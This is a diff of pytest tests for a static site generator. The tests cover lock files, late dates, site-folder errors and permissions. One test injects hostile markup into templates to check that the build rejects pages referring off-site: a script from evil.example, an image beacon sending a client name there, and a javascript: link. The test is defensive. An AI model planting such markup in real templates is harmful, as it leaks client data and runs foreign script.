@@ -5,6 +5,9 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import subprocess
+from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
@@ -20,10 +23,8 @@ def tree(root: Path) -> dict[str, bytes]:
 
 
 def site_tree(root: Path) -> dict[str, bytes]:
-    """Every file of a built site but those documented to differ from build to build."""
-    from generator.site.build import PER_BUILD_FILES
-
-    return {name: data for name, data in tree(root).items() if name not in PER_BUILD_FILES}
+    """Every file of a built site (all of them the same bytes for the same input and date)."""
+    return tree(root)
 
 
 def copy_demo(target: Path) -> Path:
@@ -33,9 +34,13 @@ def copy_demo(target: Path) -> Path:
     return target
 
 
+LOCK_FILES = (".caseload.lock", ".site.lock")  # they stay, empty, for the next build
+
+
 def temporary_leftovers(workspace: Path) -> list[str]:
-    """Hidden folders: staging or temporary ones."""
-    return sorted(p.name for p in workspace.iterdir() if p.name.startswith("."))
+    """Hidden folders and files: staging or temporary ones (not the lock files)."""
+    return sorted(p.name for p in workspace.iterdir()
+                  if p.name.startswith(".") and p.name not in LOCK_FILES)
 
 
 def build(workspace: Path, *args: str) -> tuple[int, str]:
@@ -204,3 +209,145 @@ def test_a_table_that_does_not_pass_through_says_so_in_one_line(tmp_path: Path) 
         "caseload: rules.md converted with its long tables inside MkDocs' Markdown (slower): "
         "an emptied table did not come back as it went in"]
     assert "&lt;table&gt;" in (workspace / "site" / "rules.html").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("template, markup, page, host", [
+    ("overview.md.j2", '<script src="https:evil.example/x.js"></script>', "index.html",
+     "evil.example"),
+    ("client.md.j2", '<img src="//evil.example/{{ site.name(e) }}.png">',
+     "clients/C-1001.html", "evil.example"),
+    ("client.md.j2", '<a href="javascript:alert(\'{{ site.name(e) }}\')">x</a>',
+     "clients/C-1001.html", "javascript:"),
+])
+def test_a_template_that_refers_off_the_machine_fails_the_build(
+        tmp_path: Path, template: str, markup: str, page: str, host: str) -> None:
+    workspace = copy_demo(tmp_path)
+    assert build(workspace)[0] == 0
+    before = tree(workspace / "site")
+    path = workspace / "templates" / template
+    path.write_text(path.read_text(encoding="utf-8") + f"\n{markup}\n", encoding="utf-8")
+    code, err = build(workspace)
+    assert code == 2
+    lines = err.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith(
+        f"site build failed: {page} refers outside the site, to {host}"), err
+    assert "Castellanos" not in err and "alert" not in err  # the host, never the URL
+    assert tree(workspace / "site") == before
+    assert temporary_leftovers(workspace) == []
+
+
+@pytest.mark.parametrize("day", ["2106-02-07", "2106-02-08", "9999-12-31"])
+def test_a_late_as_of_date_builds(tmp_path: Path, day: str) -> None:
+    workspace = copy_demo(tmp_path)
+    result = CliRunner().invoke(cli, ["build", str(workspace), "--as-of", day])
+    assert result.exit_code == 0, result.stderr
+    assert f"as of {day}" in result.stderr
+    assert (workspace / "site" / "sitemap.xml.gz").is_file()
+
+
+# --- where the site goes: clear errors, private folders ---------------------------------
+
+
+def test_site_dir_under_a_file_is_a_clear_error(tmp_path: Path) -> None:
+    workspace = copy_demo(tmp_path / "ws")
+    (tmp_path / "notes.txt").write_text("mine", encoding="utf-8")
+    code, err = build(workspace, "--site-dir", str(tmp_path / "notes.txt" / "site"))
+    assert code == 2
+    assert err.strip().splitlines() == [
+        f"cannot create {tmp_path / 'notes.txt' / 'site'}: {tmp_path / 'notes.txt'} "
+        "is not a folder"]
+    assert (tmp_path / "notes.txt").read_text(encoding="utf-8") == "mine"
+
+
+def test_parents_made_for_the_site_are_private(tmp_path: Path) -> None:
+    workspace = copy_demo(tmp_path / "ws")
+    saved = os.umask(0o022)
+    try:
+        code, err = build(workspace, "--site-dir", str(tmp_path / "a" / "b" / "site"))
+    finally:
+        os.umask(saved)
+    assert code == 0, err
+    for folder in (tmp_path / "a", tmp_path / "a" / "b", tmp_path / "a" / "b" / "site"):
+        assert oct(folder.stat().st_mode & 0o777) == "0o700", folder
+
+
+@contextmanager
+def made_unwritable(folder: Path) -> Iterator[Path]:
+    """`folder`, which this process may then not write in: read-only by its mode, or,
+    for root (who ignores modes), immutable (chattr +i) where the file system allows."""
+    if hasattr(os, "geteuid") and os.geteuid() == 0:
+        chattr = shutil.which("chattr")
+        if chattr is None or subprocess.run([chattr, "+i", str(folder)],
+                                            capture_output=True).returncode != 0:
+            pytest.skip("running as root, and chattr +i is not available here")
+        try:
+            yield folder
+        finally:
+            subprocess.run([chattr, "-i", str(folder)], check=True)
+    else:
+        mode = folder.stat().st_mode & 0o777
+        folder.chmod(0o555)
+        try:
+            yield folder
+        finally:
+            folder.chmod(mode)
+
+
+@pytest.fixture
+def unwritable(tmp_path: Path) -> Iterator[Path]:
+    folder = tmp_path / "locked"
+    folder.mkdir()
+    with made_unwritable(folder):
+        yield folder
+
+
+def test_an_unwritable_parent_is_a_clear_error(tmp_path: Path, unwritable: Path) -> None:
+    workspace = copy_demo(tmp_path / "ws")
+    for site, cannot in ((unwritable / "site", unwritable.resolve() / ".site.lock"),
+                         (unwritable / "new" / "site", unwritable / "new")):
+        code, err = build(workspace, "--site-dir", str(site))
+        assert code == 2
+        assert err.strip().splitlines() in (
+            [f"cannot create {cannot}: Permission denied"],
+            [f"cannot create {cannot}: Operation not permitted"])  # immutable, for root
+
+
+def test_an_unwritable_parent_is_a_clear_error_even_for_root(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Root ignores permission bits, so what the system says to anyone else is faked."""
+    import errno
+
+    import generator.private
+    import generator.site.lock
+
+    workspace = copy_demo(tmp_path / "ws")
+    locked = tmp_path / "locked"
+    locked.mkdir()
+    real_mkdir = os.mkdir
+
+    def mkdir(path: object, mode: int = 0o777) -> None:
+        if Path(str(path)).parent == locked:
+            raise PermissionError(errno.EACCES, "Permission denied", str(path))
+        real_mkdir(path, mode)  # type: ignore[arg-type]
+
+    class Lock:  # filelock, as it fails in a folder one may not write in
+        def __init__(self, path: object, **kwargs: object) -> None:
+            self.path = Path(str(path))
+
+        def acquire(self, timeout: float = -1) -> None:
+            if self.path.parent == locked:
+                raise PermissionError(errno.EACCES, "Permission denied", str(self.path))
+
+        def release(self) -> None:
+            pass
+
+    monkeypatch.setattr(generator.private.os, "mkdir", mkdir)
+    monkeypatch.setattr(generator.site.lock, "FileLock", Lock)
+    code, err = build(workspace, "--site-dir", str(locked / "new" / "site"))
+    assert code == 2
+    assert err.strip().splitlines() == [f"cannot create {locked / 'new'}: Permission denied"]
+    code, err = build(workspace, "--site-dir", str(locked / "site"))
+    assert code == 2
+    assert err.strip().splitlines() == [
+        f"cannot create {locked.resolve() / '.site.lock'}: Permission denied"]
+    assert list(locked.iterdir()) == []
